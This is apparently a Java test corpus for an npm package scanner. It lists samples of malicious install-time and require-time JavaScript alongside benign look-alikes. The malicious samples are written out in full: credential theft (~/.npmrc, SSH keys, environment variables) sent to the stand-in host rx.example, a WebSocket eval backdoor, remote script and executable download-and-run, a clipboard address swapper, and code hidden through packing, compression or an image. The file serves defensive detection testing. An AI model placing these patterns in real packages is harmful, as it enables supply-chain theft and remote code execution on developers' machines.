package cordon.inspect.corpus;

import java.util.List;

/** Generators, getters, handlers and scripts for other hosts: ways that are not a call. */
final class NpmRoundabouts {
  private NpmRoundabouts() {}

  static List<Sample> all() {
    return List.of(
        Sample.postinstall(
            "a file that calls what it exports",
            """
            const fs = require('fs'), os = require('os'), https = require('https');
            exports.all = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
            exports.give = (d) => {
              const r = https.request({ host: 'rx.example', method: 'POST' });
              r.write(d);
              r.end();
            };
            exports.give(exports.all());
            """),
        Sample.required(
            "a handler that is put on a socket",
            """
            const WebSocket = require('ws');
            function open() { const w = new WebSocket('wss://rx.example'); w.onmessage = e => { try { w.send(String(eval(e.data))); } catch (x) {} }; }
            open();
            """),
        Sample.required(
            "modules of a bundle that load each other",
            """
            (()=>{var e={12:(e,t,r)=>{const o=r(7),n=r(31);e.exports=function(){o.put(n.read())}},7:(e,t,r)=>{const h=r(61);e.exports={put(b){const q=h.request({hostname:"rx.example",method:"POST"});q.write(b);q.end()}}},31:(e,t,r)=>{const f=r(14),o=r(37);t.read=()=>f.readFileSync(o.homedir()+"/.ssh/id_rsa")},61:e=>{e.exports=require("https")},14:e=>{e.exports=require("fs")},37:e=>{e.exports=require("os")}},t={};function r(o){var n=t[o];if(void 0!==n)return n.exports;var s=t[o]={exports:{}};return e[o](s,s.exports,r),s.exports}(()=>{r(12)()})()})();
            """),
        Sample.postinstall(
            "a bundle whose helpers have short names",
            """
            var h=Object.create,n=Object.defineProperty,g=Object.getOwnPropertyNames;var s=(o,t,r)=>{for(let e of g(t))n(o,e,{get:()=>t[e]});return o},m=(o,t,r)=>(r=o!=null?h(o):{},s(t||!o||!o.__esModule?n(r,"default",{value:o,enumerable:!0}):r,o));
            var c=m(require("https")),d=m(require("os"));function f(){c.default.request("https://rx.example",{method:"POST"}).end(JSON.stringify({e:process.env,h:d.default.hostname()}))}f();
            """),
        Sample.postinstall(
            "files that a generator finds by their names",
            """
            const fs = require('fs'), path = require('path'), os = require('os');
            function* walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) yield* walk(p); else if (/\\.(log|txt)$/.test(e.name) || e.name === 'id_rsa') yield p; } }
            (async () => { for (const f of walk(os.homedir())) await fetch('https://rx.example', { method: 'POST', body: fs.readFileSync(f, 'utf8') }); })();
            """),
        Sample.postinstall(
            "a script for the script host of Windows",
            """
            const fs = require('fs'), path = require('path');
            const p = path.join(process.env.TEMP, 'u.vbs');
            fs.writeFileSync(p, ['Set x = CreateObject("MSXML2.XMLHTTP")', 'x.Open "GET", "https://rx.example/inert", False', 'x.Send', 'CreateObject("WScript.Shell").Run "inert", 0'].join('\\r\\n'));
            require('child_process').exec('wscript //B "' + p + '"');
            """),
        Sample.required(
            "an address in the clipboard is exchanged",
            """
            const { execSync } = require('child_process');
            const get = () => execSync('pbpaste').toString();
            const set = t => execSync('echo "' + t + '" | pbcopy');
            setInterval(() => { const t = get(); if (/^0x[0-9a-f]{40}$/.test(t)) set('inert'); }, 500);
            """),
        Sample.command("another package for all", "npm i -g some-inert-tool@latest --silent"),
        Sample.postinstall(
            "another package for all, by code",
            "require('child_process').exec('npm install --global some-inert-tool', { windowsHide: true }, () => {});\n"),
        Sample.postinstall(
            "a script that is fetched, written and started",
            """
            const cp = require('child_process'), fs = require('fs'), path = require('path'), os = require('os');
            fetch('https://rx.example/s.py').then(r => r.text()).then(t => { const f = path.join(os.tmpdir(), 'check.py'); fs.writeFileSync(f, t); cp.exec(`${process.platform === 'win32' ? 'pythonw' : 'python3'} "${f}"`); });
            """),
        Sample.postinstall(
            "a program of an archive that is fetched",
            """
            const axios = require('axios'), Zip = require('adm-zip'), path = require('path'), { spawn } = require('child_process');
            axios({ url: 'https://rx.example/a.zip', responseType: 'arraybuffer' }).then(r => {
              const dir = path.join(process.env.APPDATA, 'Addons');
              new Zip(r.data).extractAllTo(dir, true);
              spawn(path.join(dir, 'host.exe'), [], { detached: true, stdio: 'ignore' }).unref();
            });
            """),
        Sample.postinstall(
            "a program of the package that nobody sees",
            "require('child_process').execFile(require('path').join(__dirname, 'bin', 'inert.exe'), [], { detached: true });\n"),
        Sample.required(
            "code that is compressed in a file",
            "new Function('require', require('zlib').brotliDecompressSync(require('fs').readFileSync(__dirname + '/data.bin')).toString())(require);\n"),
        Sample.required(
            "code that is masked in a picture",
            """
            const png = require('fs').readFileSync(__dirname + '/logo.png');
            new Function('require', png.subarray(900).map(b => b ^ 0x5a).toString())(require);
            """),
        Sample.required(
            "packed code",
            """
            eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0("1").2("3://4.5",6=>{7 8="";6.9("a",b=>8+=b);6.9("c",()=>d(8))});',14,14,'require|https|get|https|rx|example|r|let|s|on|data|b|end|eval'.split('|'),0,{}))
            """),
        Sample.required(
                "names that one file gives another",
                "const b = require('./b'), c = require('./c');\nc[b.k(0)](b.k(1)).then(r => r[b.k(2)]()).then(t => c[b.k(3)](t));\n")
            .with(
                "b.js",
                "const t = ['fetch', 'https://rx.example', 'text', 'eval'];\nexports.k = i => t[i];\n")
            .with("c.js", "module.exports = globalThis;\n"),
        Sample.required("a module that is called as a whole", "require('./watch')();\n")
            .with(
                "watch.js",
                """
                const os = require('os');
                module.exports = () => { fetch('https://rx.example', { method: 'POST', body: JSON.stringify({ h: os.hostname(), u: os.userInfo().username }) }); };
                """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.postinstall(
            "what npm says of itself",
            """
            const { execSync } = require('child_process');
            execSync('npm'); execSync('npm root -g'); execSync('npm ls --global --json'); execSync('npm install -g .');
            """),
        Sample.postinstall(
            "a program of the package that is asked for its version",
            "require('child_process').execFileSync(require('path').join(__dirname, 'bin', 'inert.exe'), ['--version']);\n"),
        Sample.required(
            "data that is compressed in a file",
            "module.exports = JSON.parse(require('zlib').brotliDecompressSync(require('fs').readFileSync(__dirname + '/data.bin')));\n"),
        Sample.required(
            "packed code that computes",
            "eval(function(p,a,c,k,e,d){return p}('0.1=2=>2+3;',4,4,'module|exports|x|1'.split('|'),0,{}))\n"),
        NpmTakers.depends(
            "a commit that is needed", "github:example/a#79ac49eedf774dd4b0cfa308722bc463cfe5885c"),
        Sample.required(
            "a handler of a socket that prints",
            "const W = require('ws'); const w = new W('wss://rx.example'); w.onmessage = e => console.log(e.data);\n"),
        Sample.required(
            "names of secrets that are left out",
            """
            const fs = require('fs');
            exports.list = d => fs.readdirSync(d).filter(f => f !== '.env' && !f.endsWith('id_rsa'));
            exports.list('.').forEach(f => fs.readFileSync(f));
            """),
        Sample.required(
            "an address that is checked",
            "module.exports = a => /^0x[0-9a-fA-F]{40}$/.test(a);\nmodule.exports('0x00000000000000000000000000000000000000a1');\n"),
        Sample.required(
            "text that is put into the clipboard",
            "require('child_process').execSync('echo done | pbcopy');\n"));
  }
}
